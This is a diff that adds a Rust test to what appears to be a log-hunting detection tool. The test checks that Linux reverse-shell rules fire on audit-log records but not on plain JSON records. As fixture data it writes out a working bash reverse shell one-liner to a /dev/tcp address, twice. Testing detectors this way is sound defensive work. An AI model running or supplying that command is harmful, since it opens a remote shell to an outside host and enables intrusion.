@@ -251,3 +251,34 @@ fn from_reads_unrecognised_files_and_archive_members_as_named() {
     assert_eq!(unknown.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&unknown.stderr).contains("unknown format \"cef\""));
 }
+
+#[test]
+fn linux_rules_read_only_linux_records() {
+    // The same fields as an audited reverse shell, but in a plain JSON record: Linux
+    // `process_creation` rules read audit events only, so nothing fires on it. Written as an
+    // audit record, it fires.
+    let dir = tempfile::tempdir().unwrap();
+    let json = dir.path().join("other.jsonl");
+    std::fs::write(
+        &json,
+        r#"{"time":"2024-03-14T10:00:00Z","type":"EXECVE","a0":"bash","CommandLine":"bash -i >& /dev/tcp/198.51.100.23/443 0>&1"}"#,
+    )
+    .unwrap();
+    let output = garrison(&["hunt", json.to_str().unwrap()]);
+    assert!(output.status.success(), "{output:?}");
+    assert!(stdout_lines(&output).is_empty(), "{output:?}");
+    let audit = dir.path().join("audit.log");
+    std::fs::write(
+        &audit,
+        "type=SYSCALL msg=audit(1710410400.000:1): syscall=59 exe=\"/usr/bin/bash\" pid=5 ppid=1 uid=0\n\
+         type=EXECVE msg=audit(1710410400.000:1): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/198.51.100.23/443 0>&1\"\n",
+    )
+    .unwrap();
+    let output = garrison(&["hunt", audit.to_str().unwrap()]);
+    let titles = titles(&stdout_lines(&output));
+    assert_eq!(
+        titles.get("Shell Redirected to a Network Socket (Linux Reverse Shell)"),
+        Some(&1),
+        "{titles:?}"
+    );
+}
